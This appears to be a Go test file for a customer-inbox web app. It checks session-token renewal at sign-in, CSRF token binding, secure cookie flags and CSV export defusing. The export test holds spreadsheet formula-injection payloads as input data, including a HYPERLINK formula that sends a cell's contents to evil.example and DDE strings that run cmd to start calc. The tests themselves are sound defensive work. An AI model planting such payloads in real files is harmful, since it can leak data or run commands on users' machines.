package web_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/alexedwards/scs/v2"

	"switchboard/inbox"
)

// A session token planted in the browser before sign-in (by a
// neighbouring site, or left on a shared machine), even one the server
// holds a session for, is worth nothing after it: signing in gives a new
// token, which the planter does not know, and the planted one signs
// nobody in. A CSRF token is the session's own: another session's is
// refused.
func TestSignInRenewsTheSessionToken(t *testing.T) {
	ts := newTestServer(t)
	ts.addUser("ana@example.com", "Ana", inbox.RoleAdmin)
	ts.addUser("mal@example.com", "Mal", inbox.RoleAgent)
	// A session nobody is signed in to, whose token and CSRF token the
	// planter knows.
	const planted = "planted-by-someone-else-0123456789abcdefgh"
	b, err := scs.GobCodec{}.Encode(time.Now().Add(time.Hour), map[string]interface{}{"csrf": "known-to-the-planter"})
	if err != nil {
		t.Fatal(err)
	}
	if err := ts.db.Sessions().Commit(planted, b, time.Now().Add(time.Hour)); err != nil {
		t.Fatal(err)
	}

	victim := ts.newAgent()
	u, _ := url.Parse(ts.srv.URL)
	victim.client.Jar.SetCookies(u, []*http.Cookie{{Name: "switchboard_session", Value: planted, Path: "/"}})
	victim.login("ana@example.com")
	if got := victim.cookie("switchboard_session"); got == "" || got == planted {
		t.Fatalf("session cookie after sign-in = %q, want a new token", got)
	}
	if victim.csrf == "known-to-the-planter" {
		t.Error("the planted session's CSRF token outlived the sign-in")
	}
	mal := ts.newAgent()
	if p := mal.do(http.MethodGet, "/inbox", nil, func(r *http.Request) {
		r.Header.Set("Cookie", "switchboard_session="+planted)
	}); p.status != http.StatusSeeOther {
		t.Errorf("the planted token after the victim signed in: %d, want sent to sign in", p.status)
	}

	mal.login("mal@example.com")
	if p := victim.do(http.MethodPost, "/logout", url.Values{}, func(r *http.Request) {
		r.Header.Set("X-CSRF-Token", mal.csrf)
	}); p.status != http.StatusForbidden {
		t.Errorf("sign-out with another session's CSRF token: %d, want 403", p.status)
	}
	if p := victim.get("/inbox"); p.status != http.StatusOK {
		t.Errorf("the victim after the refused sign-out: %d, want still signed in", p.status)
	}
}

// Behind a TLS proxy (an https base URL) the session cookie is Secure,
// HttpOnly and SameSite, and the answer asks for https from then on.
func TestSessionCookieIsSecureOverHTTPS(t *testing.T) {
	ts := newHTTPSTestServer(t)
	ts.addUser("ana@example.com", "Ana", inbox.RoleAdmin)
	a := ts.newAgent()
	a.get("/login")
	p := a.do(http.MethodPost, "/login", url.Values{"email": {"ana@example.com"}, "password": {"correct horse battery"}, "csrf": {a.csrf}}, nil)
	if p.status != http.StatusSeeOther {
		t.Fatalf("sign-in: %d", p.status)
	}
	var cookie string
	for _, sc := range p.header.Values("Set-Cookie") {
		if strings.HasPrefix(sc, "switchboard_session=") {
			cookie = sc
		}
	}
	for _, want := range []string{"Secure", "HttpOnly", "SameSite=Lax", "Path=/"} {
		if !strings.Contains(cookie, want) {
			t.Errorf("session cookie %q lacks %s", cookie, want)
		}
	}
	if strings.Contains(cookie, "Domain=") {
		t.Errorf("session cookie %q names a domain", cookie)
	}
	if !strings.HasPrefix(p.header.Get("Strict-Transport-Security"), "max-age=") {
		t.Errorf("Strict-Transport-Security = %q", p.header.Get("Strict-Transport-Security"))
	}
}

// A customer's WhatsApp profile name is theirs to choose: in the CSV
// export, one a spreadsheet would run as a formula starts with a quote,
// and a phone number stays a number.
func TestReportExportDefusesFormulasInNames(t *testing.T) {
	ts := newTestServer(t)
	ts.addUser("ana@example.com", "Ana", inbox.RoleAdmin)
	names := map[string]string{
		"+14155550001": `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
		"+14155550002": "@SUM(1+1)*cmd|' /C calc'!A0",
		"+14155550003": "+1+cmd|' /C calc'!A0",
		"+14155550004": "-2+3",
		"+14155550005": "\t=1+1",
		"+14155550006": "+4915112345678",
	}
	want := map[string]string{
		"+14155550001": `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
		"+14155550002": "'@SUM(1+1)*cmd|' /C calc'!A0",
		"+14155550003": "'+1+cmd|' /C calc'!A0",
		"+14155550004": "'-2+3",
		"+14155550005": "'\t=1+1",
		"+14155550006": "+4915112345678",
	}
	i := 0
	for phone, name := range names {
		i++
		ts.mustPost(inboundFrom("evt_"+itoa(int64(i)), "msg_"+itoa(int64(i)), phone, name, "Hello", time.Now().Add(-time.Minute)))
	}
	a := ts.newAgent()
	a.login("ana@example.com")
	p := a.get("/reports/export.csv")
	rows, err := csv.NewReader(strings.NewReader(p.body)).ReadAll()
	if err != nil || len(rows) != len(names)+1 {
		t.Fatalf("export: %d %v, %d rows in %q", p.status, err, len(rows), p.body)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for _, r := range rows[1:] {
		phone, name := r[col["contact_phone"]], r[col["contact_name"]]
		if name != want[phone] {
			t.Errorf("contact %s: name cell %q, want %q", phone, name, want[phone])
		}
	}
}
